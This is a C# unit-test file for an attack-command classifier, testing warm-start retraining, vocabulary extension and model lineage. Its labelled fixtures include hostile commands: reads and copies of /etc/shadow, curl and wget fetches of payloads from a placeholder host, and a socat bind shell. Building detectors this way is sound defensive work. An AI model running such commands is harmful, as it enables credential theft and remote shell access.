using AttackClassifier.Classification;
using AttackClassifier.Data;
using AttackClassifier.Models.LogisticRegression;
using AttackClassifier.Models.Lstm;
using AttackClassifier.Serialization;
using AttackClassifier.Text;

namespace AttackClassifier.Tests.Classification;

public class WarmStartTests
{
    private const string Dump = "T1003: OS Credential Dumping", Discovery = "T1082: System Information Discovery", Transfer = "T1105: Ingress Tool Transfer";

    private static CommandDataset Rows(params (string Command, string Label)[] rows) => new(rows.Select(r => new CommandRecord(r.Command, r.Label, 1)));

    private static readonly CommandDataset Old = Rows(
        ("cat /etc/shadow", Dump), ("grep root /etc/shadow", Dump), ("cp /etc/shadow /tmp/s", Dump), ("unshadow /etc/passwd /etc/shadow", Dump),
        ("uname -a", Discovery), ("cat /etc/os-release", Discovery), ("hostnamectl status", Discovery), ("uname -r -m", Discovery));

    private static readonly CommandDataset New = Rows(
        ("curl -o /tmp/x http://host/x", Transfer), ("wget http://host/payload", Transfer), ("curl -O http://host/tool", Transfer),
        ("wget -q http://host/a.sh", Transfer), ("uname -n", Discovery));

    private static TfidfLogisticRegressionClassifier Parent(TfidfLogisticRegressionOptions? options = null) => TfidfLogisticRegressionClassifier.Train(Old, options);

    [Fact]
    public void A_grown_vocabulary_keeps_every_old_term_with_its_idf_and_maps_it_to_its_new_column()
    {
        var old = TfidfVectorizer.Fit(["cat shadow", "uname kernel"], new TfidfOptions { NGramRange = new(1, 1) });   // terms cat, kernel, shadow, uname
        string[] added = ["curl shadow", "wget zz"];
        var grown = old.Extend(added, 0, out int[] oldToNew);
        Assert.Equal(["cat", "curl", "kernel", "shadow", "uname", "wget", "zz"], grown.Terms);   // ordinal order, as model files require
        for (int j = 0; j < old.FeatureCount; j++)
        {
            Assert.Equal(old.Terms[j], grown.Terms[oldToNew[j]]);   // every old feature keeps its term (and so its weight row)
            Assert.Equal(old.Idf[j], grown.Idf[oldToNew[j]]);       // and its idf: the parent's coefficients mean the same
        }
        Assert.Equal([0, 2, 3, 4], oldToNew);
        // New terms: idf = ln((1 + N) / (1 + df)) + 1 over the N = 2 added documents; each occurs in one.
        Assert.Equal(Math.Log(3.0 / 2.0) + 1, grown.Idf[grown.Vocabulary["curl"]], 15);
        Assert.Equal(Math.Log(3.0 / 2.0) + 1, grown.Idf[grown.Vocabulary["zz"]], 15);
        // Beside 2 older rows (which, lacking the term, do not hold it): N = 4, df = 1.
        Assert.Equal(Math.Log(5.0 / 2.0) + 1, old.Extend(added, 2, out _).Idf[grown.Vocabulary["zz"]], 15);
        // A cap leaves room only for the most frequent new terms.
        var capped = TfidfVectorizer.Fit(["cat shadow", "uname kernel"], new TfidfOptions { NGramRange = new(1, 1), MaxFeatures = 5 })
            .Extend(["wget a1 wget", "curl"], 0, out _);
        Assert.Equal(["cat", "kernel", "shadow", "uname", "wget"], capped.Terms);   // room for 1: wget (2 occurrences) beats a1, curl (1 each)
    }

    [Fact]
    public void Before_the_first_step_the_child_scores_old_commands_exactly_as_the_parent()
    {
        TfidfLogisticRegressionClassifier parent = Parent();
        string[] labels = WarmStart.ChildLabels(parent.Labels, New);
        Assert.Equal([.. parent.Labels, Transfer], labels);   // parent's order, new classes appended
        var union = parent.Vectorizer;
        string[] commands = New.CommandLines();
        var documents = commands.Select(c => (IReadOnlyList<string>)AttackClassifier.Normalization.CommandNormalizer.Normalize(c, parent.Normalization).Segments).ToArray();
        var grown = union.Extend(part => (part.ExtendSegmented(documents, Old.Count, out int[] map), map), out int[] oldToNew);
        Assert.True(grown.FeatureCount > union.FeatureCount);
        LogisticRegressionModel start = WarmStart.ExtendParameters(parent.Model, oldToNew, grown.FeatureCount, labels.Length);
        var child = new TfidfLogisticRegressionClassifier(grown, labels, start, normalization: parent.Normalization);
        foreach (string command in Old.CommandLines())
        {
            // Old commands hold no new term, so their rows are the parent's with columns renumbered: identical logits for
            // the old classes, 0 for the new one.
            var zParent = new double[parent.Labels.Count];
            var zChild = new double[labels.Length];
            Logits(parent, command, zParent);
            Logits(child, command, zChild);
            Assert.Equal(zParent, zChild.AsSpan(0, zParent.Length).ToArray());
            Assert.Equal(0.0, zChild[^1]);
        }
    }

    private static void Logits(TfidfLogisticRegressionClassifier c, string command, double[] z)
    {
        var columns = new int[c.Vectorizer.FeatureCount];
        var values = new double[c.Vectorizer.FeatureCount];
        int nnz = c.Vectorizer.TransformSegmented(AttackClassifier.Normalization.CommandNormalizer.Normalize(command, c.Normalization).Segments, columns, values);
        c.Model.PredictLogits(columns.AsSpan(0, nnz), values.AsSpan(0, nnz), z);
    }

    [Fact]
    public void Cached_rows_equal_a_fresh_transform_with_the_grown_vocabulary_after_every_round()
    {
        TfidfLogisticRegressionClassifier parent = Parent();
        // The replay holds a command the parent never saw ("socat …"): its row is incomplete and is featurised again when
        // the new rows bring its terms into the vocabulary.
        var replay = new CommandDataset([.. Old.Records, new CommandRecord("socat tcp-listen:4444 exec:sh", Transfer, 1)]);
        var loop = new IncrementalTraining(parent, replay, new WarmStartOptions());
        foreach (CommandDataset round in new[] { New, Rows(("socat tcp-listen:4444 exec:bash", Transfer), ("uname -v", Discovery)) })
        {
            TfidfLogisticRegressionClassifier model = loop.Add(round);
            string[] commands = loop.Commands.ToArray();
            var fresh = model.Vectorizer.TransformSegmented(
                commands.Select(c => (IReadOnlyList<string>)AttackClassifier.Normalization.CommandNormalizer.Normalize(c, model.Normalization).Segments).ToArray());
            var cached = loop.Features(model.Vectorizer.FeatureCount);
            Assert.Equal(fresh.RowCount, cached.RowCount);
            for (int n = 0; n < fresh.RowCount; n++)
            {
                Assert.Equal(fresh.RowColumns(n).ToArray(), cached.RowColumns(n).ToArray());
                Assert.Equal(fresh.RowValues(n).ToArray(), cached.RowValues(n).ToArray());
            }
        }
        Assert.Equal(replay.Count + New.Count + 2, loop.RowCount);
    }

    [Fact]
    public void The_child_learns_the_new_class_keeps_the_old_ones_with_replay_and_is_reproducible()
    {
        TfidfLogisticRegressionClassifier parent = Parent();
        var child = WarmStart.Retrain(parent, New, Old, null);
        Assert.Equal([.. parent.Labels, Transfer], child.Labels);
        Assert.Equal(Transfer, child.Predict("wget http://host/other").Label);
        Assert.Equal(Dump, child.Predict("cat /etc/shadow").Label);
        Assert.Equal(Discovery, child.Predict("uname -a").Label);
        Assert.Equal(1.0, child.Evaluate(Old).Accuracy);
        Assert.Equal(parent.Calibration, child.Calibration);
        var again = WarmStart.Retrain(parent, New, Old, null);
        Assert.Equal(child.Model.Coefficients.ToArray(), again.Model.Coefficients.ToArray());   // bit-identical
        var one = new MemoryStream();
        var two = new MemoryStream();
        ModelFile.Save(child, one);
        ModelFile.Save(again, two);
        Assert.Equal(one.ToArray(), two.ToArray());
    }

    [Fact]
    public void A_warm_start_with_the_cold_fits_tolerances_reaches_the_cold_fits_optimum()
    {
        // Same objective, convex: starting from the parent changes the path, not the minimiser.
        TfidfLogisticRegressionClassifier parent = Parent();
        var exact = new WarmStartOptions { Classifier = new LogisticRegressionOptions { InverseRegularization = 100, GradientTolerance = 1e-9, RelativeDecreaseTolerance = 0 } };
        var warm = WarmStart.Retrain(parent, New, Old, exact);
        // The cold fit on the same rows, features and classes: θ = 0 instead of the parent's.
        var data = WarmStart.Mix(New, Old);
        var cold = WarmStart.Retrain(new TfidfLogisticRegressionClassifier(warm.Vectorizer, warm.Labels,
            new LogisticRegressionModel(warm.Model.FeatureCount, warm.Labels.Count, new double[(warm.Model.FeatureCount + 1) * warm.Labels.Count]), normalization: warm.Normalization),
            data, null, exact);
        double[] a = warm.Model.Coefficients.ToArray(), b = cold.Model.Coefficients.ToArray();
        double scale = b.Max(Math.Abs);
        for (int i = 0; i < a.Length; i++) Assert.True(Math.Abs(a[i] - b[i]) <= 1e-3 * scale, $"w[{i}]: warm {a[i]} vs cold {b[i]}");
    }

    [Fact]
    public void An_lstm_child_keeps_the_parents_weights_and_grows_the_softmax()
    {
        var quick = new LstmClassifierOptions { Network = new LstmOptions { MaxEpochs = 2, EmbeddingSize = 8, HiddenSize = 4 } };
        LstmClassifier parent = LstmClassifier.Train(Old, null, quick);
        float[] theta = WarmStart.ExtendSoftmax(parent.Model, parent.Labels.Count + 1);
        LstmLayout old = parent.Model.Layout, grown = old with { K = old.K + 1 };
        Assert.Equal(grown.Count, theta.Length);
        Assert.Equal(parent.Model.Parameters[..old.By].ToArray(), theta[..old.By]);                      // embedding, LSTM, wy of old classes
        Assert.Equal(new float[old.H], theta[old.By..grown.By]);                                           // wy row of the new class
        Assert.Equal(parent.Model.Parameters[old.By..].ToArray(), theta[grown.By..(grown.By + old.K)]);    // by of old classes
        Assert.Equal(0f, theta[^1]);

        var child = WarmStart.Retrain(parent, New, Old, null, quick.Network with { MaxEpochs = 1 }, null);
        Assert.Equal([.. parent.Labels, Transfer], child.Labels);
        Assert.Equal(parent.Model.VocabularySize, child.Model.VocabularySize);   // the encoder stays the parent's
        Assert.Equal(1, child.Model.EpochsRun);
    }

    [Fact]
    public void Lineage_survives_save_and_load_and_is_absent_for_a_fresh_model()
    {
        var metadata = new ModelMetadata
        {
            Name = "child",
            Lineage =
            [
                new ModelLineageStep(new string('a', 64), 120, 0, null),   // trained without SOURCE_DATE_EPOCH: no time
                new ModelLineageStep(new string('b', 64), 20, 700, new DateTimeOffset(2026, 12, 5, 9, 30, 15, TimeSpan.Zero)),
            ],
        };
        var stream = new MemoryStream();
        ModelFile.Save(Parent(), stream, metadata);
        stream.Position = 0;
        ModelMetadata read = ModelFile.Open(stream, "child.acm").Info.Metadata!;
        Assert.Equal(metadata.Lineage, read.Lineage);
        Assert.Contains("\"lineage\":[{\"parent_sha256\":\"aaaa", System.Text.Encoding.UTF8.GetString(metadata.ToJson()), StringComparison.Ordinal);
        Assert.Empty(ModelMetadata.FromJson("{\"name\":\"x\"}"u8.ToArray(), "x").Lineage);
        Assert.DoesNotContain("lineage", System.Text.Encoding.UTF8.GetString(new ModelMetadata().ToJson()), StringComparison.Ordinal);
    }
}
